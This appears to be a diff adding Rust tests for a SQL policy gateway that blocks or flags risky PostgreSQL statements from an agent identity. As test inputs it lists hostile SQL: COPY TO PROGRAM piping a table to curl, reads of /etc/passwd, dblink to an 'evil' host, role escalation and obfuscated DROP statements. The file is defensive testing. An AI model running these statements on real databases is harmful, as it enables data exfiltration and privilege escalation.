@@ -1,0 +1,603 @@
+//! Table-driven tests of `decide` with the shipped rules and with custom ones.
+
+use std::collections::HashSet;
+
+use hoop_policy::{
+    classify, decide_all, default_rules, Action, Decision, Identity, PolicyContext, RuleConfig,
+    RuleSet, DEFAULT_RULES_TOML, UNPARSED_RULE,
+};
+
+fn agent() -> Identity {
+    Identity {
+        subject: "agent-7".to_owned(),
+        groups: vec!["fraud-agents".to_owned()],
+    }
+}
+
+fn context() -> PolicyContext {
+    PolicyContext {
+        protected_tables: HashSet::from(["public.payments".to_owned()]),
+    }
+}
+
+/// "allow", "block:<rule>" or "review:<rule>".
+fn outcome(sql: &str, identity: &Identity, rules: &RuleSet) -> String {
+    match decide_all(&classify(sql), identity, &context(), rules) {
+        Decision::Allow => "allow".to_owned(),
+        Decision::Block { rule, message } => {
+            assert!(message.contains(&rule), "{message:?} names {rule}");
+            format!("block:{rule}")
+        }
+        Decision::Review { rule, message } => {
+            assert!(message.contains(&rule), "{message:?} names {rule}");
+            format!("review:{rule}")
+        }
+    }
+}
+
+fn defaults() -> RuleSet {
+    RuleSet::new(default_rules()).expect("the shipped rules are valid")
+}
+
+#[test]
+fn shipped_rules_refuse_prohibited_and_obfuscated_statements() {
+    let rules = defaults();
+    let cases: &[(&str, &str)] = &[
+        ("DROP DATABASE payments", "block:block-drop-database"),
+        (
+            "ALTER SYSTEM SET work_mem = '1GB'",
+            "block:block-alter-system",
+        ),
+        ("CREATE ROLE x SUPERUSER", "block:block-role-commands"),
+        (
+            "ALTER ROLE fraud_agent SUPERUSER",
+            "block:block-role-commands",
+        ),
+        ("DROP ROLE x", "block:block-role-commands"),
+        (
+            "GRANT payments_admin TO fraud_agent",
+            "block:block-role-commands",
+        ),
+        (
+            "GRANT SELECT ON payments TO public",
+            "block:block-role-commands",
+        ),
+        ("REVOKE ALL ON payments FROM x", "block:block-role-commands"),
+        ("CREATE EXTENSION dblink", "block:block-create-extension"),
+        (
+            "COPY payments TO PROGRAM 'curl -d @- https://x'",
+            "block:block-server-side-copy",
+        ),
+        (
+            "copy (select 1) to '/tmp/x'",
+            "block:block-server-side-copy",
+        ),
+        (
+            "COPY payments FROM PROGRAM 'cat /etc/passwd'",
+            "block:block-server-side-copy",
+        ),
+        ("SET ROLE postgres", "block:block-identity-change"),
+        ("SET \"role\" = postgres", "block:block-identity-change"),
+        ("RESET ROLE", "block:block-identity-change"),
+        (
+            "set session authorization postgres",
+            "block:block-identity-change",
+        ),
+        (
+            "SET hoop.session = 'forged'",
+            "block:block-protected-parameters",
+        ),
+        ("RESET hoop.session", "block:block-protected-parameters"),
+        (
+            "SELECT set_config('role','postgres',false)",
+            "block:block-protected-parameters",
+        ),
+        (
+            "SELECT set_config(E'r\\x6fle', 'postgres', false)",
+            "block:block-protected-parameters",
+        ),
+        (
+            "SELECT set_config(U&'r\\006fle', 'postgres', false)",
+            "block:block-protected-parameters",
+        ),
+        (
+            "SELECT set_config('hoop.session', 'x', false)",
+            "block:block-protected-parameters",
+        ),
+        (
+            "SELECT set_config('ro' || 'le', 'x', false)",
+            "block:block-protected-parameters",
+        ),
+        (
+            "UPDATE pg_settings SET setting = 'x' WHERE name = 'role'",
+            "block:block-protected-parameters",
+        ),
+        ("DISCARD ALL", "block:block-protected-parameters"),
+        ("LOAD 'auto_explain'", "block:block-load"),
+        (
+            "select pg_read_file('/etc/passwd')",
+            "block:block-file-access-functions",
+        ),
+        (
+            "SELECT pg_catalog.pg_read_binary_file('/etc/passwd')",
+            "block:block-file-access-functions",
+        ),
+        (
+            "SELECT \"pg_ls_dir\"('.')",
+            "block:block-file-access-functions",
+        ),
+        (
+            "SELECT * FROM pg_ls_waldir()",
+            "block:block-file-access-functions",
+        ),
+        (
+            "SELECT lo_export(1, '/tmp/x')",
+            "block:block-file-access-functions",
+        ),
+        (
+            "SELECT lo_import('/etc/passwd')",
+            "block:block-file-access-functions",
+        ),
+        (
+            "SELECT * FROM dblink('host=x', 'select 1') AS t(a int)",
+            "block:block-file-access-functions",
+        ),
+        (
+            "SELECT dblink_connect('host=evil')",
+            "block:block-file-access-functions",
+        ),
+        (
+            "SELECT length(upper(pg_read_file('/etc/passwd')))",
+            "block:block-file-access-functions",
+        ),
+        // Obfuscation.
+        ("DR/**/OP TABLE payments", &format!("block:{UNPARSED_RULE}")),
+        (
+            "/* /* nested */ */ drop table payments",
+            "review:review-ddl-on-protected-tables",
+        ),
+        (
+            "dRoP TaBlE \"payments\"",
+            "review:review-ddl-on-protected-tables",
+        ),
+        (
+            "DO $$ BEGIN EXECUTE 'DROP TABLE payments'; END $$",
+            "review:review-dynamic-sql",
+        ),
+        (
+            "DO $x$ BEGIN EXECUTE 'DROP TABLE payments'; END $x$",
+            "review:review-dynamic-sql",
+        ),
+        ("CALL cleanup()", "review:review-dynamic-sql"),
+        (
+            "SELECT query_to_xml('select * from payments', true, false, '')",
+            "review:review-dynamic-sql-functions",
+        ),
+        // The second (or a later) statement decides for the whole string.
+        (
+            "SELECT 1; DROP DATABASE payments",
+            "block:block-drop-database",
+        ),
+        (
+            "SELECT 1; SELECT 2; SET ROLE postgres",
+            "block:block-identity-change",
+        ),
+        (
+            "select 'a;b'; ALTER SYSTEM SET x = 1",
+            "block:block-alter-system",
+        ),
+        (
+            "SELECT 1; DR/**/OP TABLE payments",
+            &format!("block:{UNPARSED_RULE}"),
+        ),
+        // Wrappers are judged by what they wrap.
+        (
+            "PREPARE p AS DELETE FROM payments",
+            "review:review-dml-on-protected-tables",
+        ),
+        (
+            "PREPARE p AS SELECT pg_read_file('x')",
+            "block:block-file-access-functions",
+        ),
+        (
+            "EXPLAIN ANALYZE DELETE FROM payments",
+            "review:review-dml-on-protected-tables",
+        ),
+        (
+            "EXPLAIN (ANALYZE) UPDATE payments SET note = ''",
+            "review:review-dml-on-protected-tables",
+        ),
+        (
+            "DECLARE c CURSOR FOR SELECT * FROM payments",
+            "review:review-large-payment-reads",
+        ),
+        // Writes to protected tables.
+        (
+            "UPDATE payments SET note = 'x' WHERE id = 1",
+            "review:review-dml-on-protected-tables",
+        ),
+        (
+            "INSERT INTO payments (id) VALUES (1)",
+            "review:review-dml-on-protected-tables",
+        ),
+        (
+            "DELETE FROM public.payments",
+            "review:review-dml-on-protected-tables",
+        ),
+        ("TRUNCATE payments", "review:review-dml-on-protected-tables"),
+        (
+            "COPY payments FROM STDIN",
+            "review:review-dml-on-protected-tables",
+        ),
+        (
+            "WITH d AS (DELETE FROM payments RETURNING *) SELECT * FROM d",
+            "review:review-dml-on-protected-tables",
+        ),
+        (
+            "ALTER TABLE payments DROP COLUMN note",
+            "review:review-ddl-on-protected-tables",
+        ),
+        // Large reads.
+        (
+            "SELECT * FROM payments",
+            "review:review-large-payment-reads",
+        ),
+        (
+            "COPY payments TO STDOUT",
+            "review:review-large-payment-reads",
+        ),
+        // Everyday statements.
+        (
+            "SELECT id, card_number FROM payments WHERE amount < 500",
+            "allow",
+        ),
+        ("SELECT 1", "allow"),
+        ("BEGIN; SELECT 1; COMMIT", "allow"),
+        ("SHOW work_mem", "allow"),
+        ("SET search_path = public", "allow"),
+        ("SET statement_timeout = '5s'", "allow"),
+        ("RESET ALL", "allow"),
+        ("DELETE FROM scratch WHERE id = 1", "allow"),
+        ("CREATE TEMP TABLE scratch (id int)", "allow"),
+        ("EXECUTE p(1)", "allow"),
+        ("", "allow"),
+    ];
+    for (sql, expected) in cases {
+        assert_eq!(outcome(sql, &agent(), &rules), *expected, "{sql}");
+    }
+}
+
+#[test]
+fn threshold_predicate_semantics() {
+    let rules = defaults();
+    let review = "review:review-large-payment-reads";
+    let cases: &[(&str, &str)] = &[
+        ("SELECT * FROM payments WHERE amount > 20000", review),
+        ("SELECT * FROM payments WHERE amount >= 10001", review),
+        (
+            "SELECT * FROM payments WHERE amount BETWEEN 15000 AND 30000",
+            review,
+        ),
+        ("SELECT * FROM payments WHERE amount > 10000", review),
+        ("SELECT * FROM payments WHERE amount = 10000.5", review),
+        ("SELECT * FROM payments WHERE id = 5", review),
+        (
+            "SELECT * FROM payments WHERE amount < 500 OR id = 5",
+            review,
+        ),
+        ("SELECT * FROM payments WHERE NOT (amount < 500)", review),
+        ("SELECT * FROM payments WHERE amount < $1", review),
+        (
+            "SELECT * FROM payments p WHERE amount < 500 AND p.id IN (SELECT id FROM payments)",
+            review,
+        ),
+        (
+            "SELECT * FROM payments WHERE amount < 20000 AND amount > 15000",
+            review,
+        ),
+        ("SELECT * FROM payments WHERE amount < 500", "allow"),
+        ("SELECT * FROM payments WHERE amount <= 10000", "allow"),
+        ("SELECT * FROM payments WHERE amount = 10000", "allow"),
+        ("SELECT * FROM payments WHERE 10000 >= amount", "allow"),
+        (
+            "SELECT * FROM payments WHERE amount BETWEEN 1 AND 9999",
+            "allow",
+        ),
+        (
+            "SELECT * FROM payments WHERE amount IN (5, 10, 15)",
+            "allow",
+        ),
+        (
+            "SELECT * FROM payments WHERE amount > 20000 AND amount < 5",
+            "allow",
+        ),
+        (
+            "SELECT * FROM payments WHERE amount < 500 AND note = 'x'",
+            "allow",
+        ),
+        ("SELECT * FROM payments AS p WHERE p.amount < 500", "allow"),
+        // Other tables are not what the rule is about.
+        ("SELECT * FROM refunds WHERE amount > 20000", "allow"),
+        (
+            "SELECT * FROM archive.payments WHERE amount > 20000",
+            "allow",
+        ),
+    ];
+    for (sql, expected) in cases {
+        assert_eq!(outcome(sql, &agent(), &rules), *expected, "{sql}");
+    }
+}
+
+fn rule(name: &str, action: Action) -> RuleConfig {
+    RuleConfig {
+        name: name.to_owned(),
+        action,
+        message: None,
+        kinds: vec![],
+        tables: vec![],
+        columns: vec![],
+        functions: vec![],
+        missing_where: None,
+        predicate: None,
+        set_parameters: vec![],
+        protected_tables_only: false,
+        groups: vec![],
+        except_groups: vec![],
+    }
+}
+
+#[test]
+fn the_most_restrictive_matching_rule_wins() {
+    let allow_all = rule("allow-everything", Action::Allow);
+    let review_dml = RuleConfig {
+        kinds: vec!["dml".to_owned()],
+        ..rule("review-dml", Action::Review)
+    };
+    let block_delete = RuleConfig {
+        kinds: vec!["delete".to_owned()],
+        missing_where: Some(true),
+        ..rule("block-unfiltered-delete", Action::Block)
+    };
+    let rules = RuleSet::new(vec![allow_all, review_dml, block_delete]).expect("valid");
+    assert_eq!(
+        outcome("DELETE FROM t", &agent(), &rules),
+        "block:block-unfiltered-delete"
+    );
+    assert_eq!(
+        outcome("DELETE FROM t WHERE id = 1", &agent(), &rules),
+        "review:review-dml"
+    );
+    assert_eq!(outcome("SELECT 1", &agent(), &rules), "allow");
+    // An allow rule never lets an unparsed statement through.
+    assert_eq!(
+        outcome("FROBNICATE", &agent(), &rules),
+        format!("block:{UNPARSED_RULE}")
+    );
+}
+
+#[test]
+fn groups_scope_rules() {
+    let admins = Identity {
+        subject: "ci".to_owned(),
+        groups: vec!["payments-admins".to_owned()],
+    };
+    let rules = RuleSet::new(vec![
+        RuleConfig {
+            kinds: vec!["ddl".to_owned()],
+            except_groups: vec!["migrations".to_owned()],
+            ..rule("block-ddl", Action::Block)
+        },
+        RuleConfig {
+            kinds: vec!["dml".to_owned()],
+            groups: vec!["payments-admins".to_owned()],
+            ..rule("review-admin-dml", Action::Review)
+        },
+        RuleConfig {
+            kinds: vec!["unparsed".to_owned()],
+            groups: vec!["payments-admins".to_owned()],
+            ..rule("review-unparsed", Action::Review)
+        },
+    ])
+    .expect("valid");
+    let migrations = Identity {
+        subject: "migrate".to_owned(),
+        groups: vec!["migrations".to_owned()],
+    };
+    assert_eq!(
+        outcome("CREATE TABLE t (id int)", &agent(), &rules),
+        "block:block-ddl"
+    );
+    assert_eq!(
+        outcome("CREATE TABLE t (id int)", &migrations, &rules),
+        "allow"
+    );
+    assert_eq!(
+        outcome("DELETE FROM t", &admins, &rules),
+        "review:review-admin-dml"
+    );
+    assert_eq!(outcome("DELETE FROM t", &agent(), &rules), "allow");
+    assert_eq!(
+        outcome("CHECKPOINT", &admins, &rules),
+        "review:review-unparsed"
+    );
+    assert_eq!(
+        outcome("CHECKPOINT", &agent(), &rules),
+        format!("block:{UNPARSED_RULE}")
+    );
+}
+
+#[test]
+fn matchers_combine_with_and() {
+    let rules = RuleSet::new(vec![
+        RuleConfig {
+            tables: vec!["public.pay*".to_owned()],
+            columns: vec!["card_*".to_owned()],
+            kinds: vec!["select".to_owned()],
+            ..rule("review-card-reads", Action::Review)
+        },
+        RuleConfig {
+            tables: vec!["audit_log".to_owned()],
+            ..rule("block-audit-log", Action::Block)
+        },
+    ])
+    .expect("valid");
+    let agent = agent();
+    assert_eq!(
+        outcome("SELECT card_number FROM payments", &agent, &rules),
+        "review:review-card-reads"
+    );
+    assert_eq!(
+        outcome("SELECT * FROM payouts", &agent, &rules),
+        "review:review-card-reads"
+    );
+    assert_eq!(outcome("SELECT id FROM payments", &agent, &rules), "allow");
+    assert_eq!(
+        outcome("SELECT card_number FROM other", &agent, &rules),
+        "allow"
+    );
+    assert_eq!(
+        outcome("SELECT 1 FROM ops.audit_log", &agent, &rules),
+        "block:block-audit-log"
+    );
+}
+
+#[test]
+fn allow_list_mode() {
+    let rules = RuleSet::new(vec![RuleConfig {
+        kinds: vec!["select".to_owned(), "transaction".to_owned()],
+        ..rule("allow-reads", Action::Allow)
+    }])
+    .expect("valid")
+    .with_default_action(Action::Block);
+    assert_eq!(outcome("SELECT 1", &agent(), &rules), "allow");
+    assert_eq!(outcome("DELETE FROM t", &agent(), &rules), "block:default");
+}
+
+#[test]
+fn review_is_refused_until_approvals_exist() {
+    let decision = decide_all(
+        &classify("DELETE FROM payments"),
+        &agent(),
+        &context(),
+        &defaults(),
+    );
+    let (sqlstate, message) = decision.client_error().expect("refused");
+    assert_eq!(sqlstate, "42501");
+    assert!(
+        message.contains("review-dml-on-protected-tables"),
+        "{message}"
+    );
+    assert!(message.contains("review"), "{message}");
+    assert_eq!(Decision::Allow.client_error(), None);
+
+    let unparsed = decide_all(
+        &classify("DR/**/OP TABLE payments"),
+        &agent(),
+        &context(),
+        &defaults(),
+    );
+    let (sqlstate, message) = unparsed.client_error().expect("refused");
+    assert_eq!(sqlstate, "42501");
+    assert!(
+        message.contains("statement not understood by the gateway"),
+        "{message}"
+    );
+}
+
+#[test]
+fn validation_names_the_rule_and_field() {
+    let cases: Vec<(RuleConfig, &str, &str)> = vec![
+        (rule("", Action::Block), "rule #1", "name"),
+        (
+            RuleConfig {
+                kinds: vec!["drop_everything".to_owned()],
+                ..rule("r", Action::Block)
+            },
+            "r",
+            "kinds",
+        ),
+        (
+            RuleConfig {
+                predicate: Some("amount >> 5".to_owned()),
+                ..rule("p", Action::Review)
+            },
+            "p",
+            "predicate",
+        ),
+        (
+            RuleConfig {
+                predicate: Some("amount > lots".to_owned()),
+                ..rule("p", Action::Review)
+            },
+            "p",
+            "predicate",
+        ),
+        (
+            RuleConfig {
+                tables: vec!["db.s.t".to_owned()],
+                ..rule("t", Action::Block)
+            },
+            "t",
+            "tables",
+        ),
+        (
+            RuleConfig {
+                functions: vec![" ".to_owned()],
+                ..rule("f", Action::Block)
+            },
+            "f",
+            "functions",
+        ),
+    ];
+    for (config, rule_name, field) in cases {
+        let error = RuleSet::new(vec![config]).expect_err("invalid");
+        assert_eq!(
+            (error.rule.as_str(), error.field),
+            (rule_name, field),
+            "{error}"
+        );
+        assert!(error.to_string().contains(field));
+    }
+    let duplicate = RuleSet::new(vec![rule("a", Action::Allow), rule("a", Action::Block)])
+        .expect_err("duplicate");
+    assert_eq!((duplicate.rule.as_str(), duplicate.field), ("a", "name"));
+}
+
+#[test]
+fn rules_read_from_toml() {
+    #[derive(serde::Deserialize)]
+    struct Config {
+        rules: Vec<RuleConfig>,
+    }
+    let text = r#"
+        [[rules]]
+        name = "review-big-refunds"
+        action = "review"
+        kinds = ["select"]
+        tables = ["public.refunds"]
+        predicate = "amount >= 5000"
+        groups = ["fraud-agents"]
+        message = "large refunds need a second pair of eyes"
+    "#;
+    let config: Config = toml::from_str(text).expect("parses");
+    let rules = RuleSet::with_defaults(config.rules).expect("valid");
+    let decision = decide_all(
+        &classify("SELECT * FROM refunds WHERE amount > 6000"),
+        &agent(),
+        &context(),
+        &rules,
+    );
+    match decision {
+        Decision::Review { rule, message } => {
+            assert_eq!(rule, "review-big-refunds");
+            assert!(message.starts_with("large refunds need a second pair of eyes"));
+        }
+        other => panic!("{other:?}"),
+    }
+    // A misspelt matcher is an error, not a rule that matches everything.
+    let typo = "[[rules]]\nname = \"x\"\naction = \"block\"\ntable = [\"payments\"]\n";
+    assert!(toml::from_str::<Config>(typo).is_err());
+    // The shipped text is what default_rules() returns.
+    let shipped: Config = toml::from_str(DEFAULT_RULES_TOML).expect("parses");
+    assert_eq!(shipped.rules, default_rules());
+}
